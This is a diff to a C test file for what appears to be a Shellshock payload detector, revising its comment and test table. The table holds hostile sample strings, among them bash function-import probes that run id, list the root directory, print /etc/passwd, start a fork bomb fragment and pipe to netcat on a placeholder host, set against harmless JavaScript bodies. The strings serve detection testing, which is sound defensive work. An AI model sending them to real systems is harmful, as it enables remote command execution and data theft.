@@ -104,20 +104,47 @@ static void test_trav_glob(void **st)
 	rt_run("trav-glob", t, sizeof(t) / sizeof(t[0]));
 }
 
-/* a query string written raw: "() { _; } && id" reaches the server split
- * at '&', so the value is the definition alone with its no-op one-word
- * body, or the fork bomb's "() { :|:" cut open; JavaScript's method bodies
- * say more than one word */
+/* bash imports "() {" at a value's start as a function and runs what
+ * follows the closing brace after a separator, a redirection, or (after a
+ * one-line no-op body) a line break. A body alone runs nothing, and
+ * "() { return; }", "() { x; }", "() { $(this).hide(); }" are JavaScript
+ * method bodies that code-sharing sites post; only bash's own no-op probe
+ * (':' starts no JavaScript statement), a nested definition, and the fork
+ * bomb's "() { :|:" cut open count alone. A raw query's "() { _; } && id"
+ * cut at '&' is left: a client encodes '&' (and the spaces) */
 static void test_shellshock_cut(void **st)
 {
 	(void)st;
 	static const struct rtcase t[] = {
-		{"() { _; } ", PAYLOAD_SHELLSHOCK},
-		{"() { x; }", PAYLOAD_SHELLSHOCK},
-		{"() { 0;}", PAYLOAD_SHELLSHOCK},
+		{"() { :; }", PAYLOAD_SHELLSHOCK},
+		{"() { :;};", PAYLOAD_SHELLSHOCK},
 		{"() { :|:", PAYLOAD_SHELLSHOCK},
 		{"()  {  :|:", PAYLOAD_SHELLSHOCK},
+		{"() { :|:& }\n/bin/id", PAYLOAD_SHELLSHOCK},
+		{"() { true; }\nid", PAYLOAD_SHELLSHOCK},
+		{"() { 0; }\necho;/bin/ls -la /", PAYLOAD_SHELLSHOCK},
+		{"() { 0; }; id", PAYLOAD_SHELLSHOCK},
+		{"() { ignored; }; echo; /bin/cat /etc/passwd", PAYLOAD_SHELLSHOCK},
+		{"() { _; } >_[$($())] { id; }", PAYLOAD_SHELLSHOCK},
+		{"() { x; } | /bin/nc x.example 4444", PAYLOAD_SHELLSHOCK},
+		{"() { return; }; /bin/id", PAYLOAD_SHELLSHOCK},
+		{"() { x() { _; }; x() { _; } <<a; }", PAYLOAD_SHELLSHOCK},
+		{"() { return; }", N},
+		{"() { debugger; }", N},
+		{"() { break; }", N},
+		{"() { continue; }", N},
 		{"() { return 1; }", N},
+		{"() { _; }", N},
+		{"() { x; }", N},
+		{"() { 0;}", N},
+		{"() { return; };", N},
+		{"() { return this.x; };  ", N},
+		{"() { $(this).hide(); }", N},
+		{"() { return a > b ? a : b; }", N},
+		{"() { return x << 2; }", N},
+		{"() {\n  return 1;\n}\n", N},
+		{"() {\n  return 1;\n}\nfoo();", N},
+		{"() {\n  this.x = 1;\n}\n\nget y() {\n  return 2;\n}", N},
 		{"() { return this.x; }", N},
 		{"() => { go(); }", N},
 		{"(a | b) { x }", N},
